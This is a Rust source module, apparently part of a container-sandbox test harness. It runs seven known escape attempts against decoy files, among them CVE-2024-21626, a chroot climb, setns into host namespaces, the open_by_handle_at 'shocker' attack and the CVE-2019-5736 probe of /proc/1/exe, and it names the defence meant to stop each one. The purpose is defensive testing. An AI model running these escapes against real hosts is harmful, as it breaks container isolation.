//! Files outside the root.

use std::fs::{self, File};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;

use nix::errno::Errno;
use nix::sched::{CloneFlags, setns};
use nix::unistd::{chdir, chroot};

use super::{Attack, Attempt, Decoys, Stop, attack, gained, nothing, proc};

pub(super) const ATTACKS: &[Attack] = &[
    attack(
        "host-file",
        "",
        "opens a file of the host by its path",
        "another root directory",
        |decoys| read(decoys.get("marker")?),
    ),
    attack(
        "working-directory",
        "CVE-2024-21626",
        "opens a file in the directory that the launcher was started in",
        "chdir after chroot: the working directory is inside",
        |_| read("marker"),
    ),
    attack(
        "chroot-climb",
        "",
        "makes a new root below the working directory and climbs from there with `..`",
        "pivot_root: the host's root is not in the mount table any more",
        climb,
    ),
    attack(
        "host-root-in-proc",
        "",
        "opens /proc/PID/root of a process of the host",
        "a PID namespace, whose /proc has no such process",
        |decoys| {
            proc()?;
            read(&format!("/proc/{}/root{}", decoys.get("pid")?, decoys.get("marker")?))
        },
    ),
    attack(
        "join-host-mounts",
        "",
        "joins the mount namespace of a process of the host with setns(2)",
        "a PID namespace, in which no process of the host can be named",
        |decoys| {
            proc()?;
            setns(
                File::open(format!("/proc/{}/ns/mnt", decoys.get("pid")?))?,
                CloneFlags::CLONE_NEWNS,
            )?;
            read(decoys.get("marker")?)
        },
    ),
    attack(
        "file-handle",
        "shocker, 2014",
        "opens a file of the host by the number of its inode: open_by_handle_at(2) walks along no path",
        "a user namespace: CAP_DAC_READ_SEARCH does not count for the host's files",
        by_handle,
    ),
    attack(
        "launcher-program",
        "CVE-2019-5736",
        "opens the program that process 1 was made from for writing",
        "process 1 is not dumpable, so that nobody inside may follow /proc/1/exe",
        launcher,
    ),
];

fn read(path: &str) -> Attempt {
    Ok(format!("read `{}`", fs::read_to_string(path)?.trim_end()))
}

/// Deeper than any directory here is.
const DEPTH: usize = 128;

/// The new root leaves the working directory outside: from there `..` ends only at the true `/`
/// (chroot(2)).
fn climb(decoys: &Decoys) -> Attempt {
    chdir("/")?;
    chroot("tmp")?;
    for _ in 0..DEPTH {
        chdir("..")?;
    }
    chroot(".")?;
    read(decoys.get("marker")?)
}

/// struct file_handle of open_by_handle_at(2)
#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    handle: [u8; 128],
}

/// The handle of a file, as `KIND:BYTES` in hexadecimal digits.
pub fn handle(path: &str) -> nix::Result<String> {
    let path = std::ffi::CString::new(path).map_err(|_| Errno::EINVAL)?;
    let (mut handle, mut mount) = (Handle { bytes: 128, kind: 0, handle: [0; 128] }, 0);
    // SAFETY: path, handle and mount outlive the call, and `bytes` is the room in the handle.
    Errno::result(unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            path.as_ptr(),
            &raw mut handle,
            &raw mut mount,
            0,
        )
    })?;
    let bytes: String =
        handle.handle[..handle.bytes as usize].iter().map(|byte| format!("{byte:02x}")).collect();
    Ok(format!("{}:{bytes}", handle.kind))
}

fn by_handle(decoys: &Decoys) -> Attempt {
    let unreadable = || Stop::Untried("the file system here has no file handles".into());
    let (kind, hex) = decoys.get("handle")?.split_once(':').ok_or_else(unreadable)?;
    let mut handle = Handle {
        bytes: hex.len() as u32 / 2,
        kind: kind.parse().map_err(|_| unreadable())?,
        handle: [0; 128],
    };
    for (byte, digits) in handle.handle.iter_mut().zip(hex.as_bytes().chunks(2)) {
        *byte = std::str::from_utf8(digits)
            .ok()
            .and_then(|d| u8::from_str_radix(d, 16).ok())
            .ok_or_else(unreadable)?;
    }
    let root = File::open("/")?;
    // SAFETY: the handle outlives the call; the descriptor that it returns is nobody else's.
    let file = unsafe {
        let fd = libc::syscall(
            libc::SYS_open_by_handle_at,
            root.as_raw_fd(),
            &raw const handle,
            libc::O_RDONLY,
        );
        OwnedFd::from_raw_fd(Errno::result(fd)? as i32)
    };
    read(&format!("/proc/self/fd/{}", file.as_raw_fd())).or_else(|_| gained("the file is open"))
}

fn launcher(_: &Decoys) -> Attempt {
    proc()?;
    let (first, own) = (fs::metadata("/proc/1/exe")?, fs::metadata("/proc/self/exe")?);
    if (first.dev(), first.ino()) == (own.dev(), own.ino()) {
        return nothing("process 1 is the payload itself");
    }
    match File::options().write(true).open("/proc/1/exe") {
        Ok(_) => gained("open for writing"),
        Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) => {
            gained("writable as soon as it has ended")
        }
        Err(error) => Err(error.into()),
    }
}
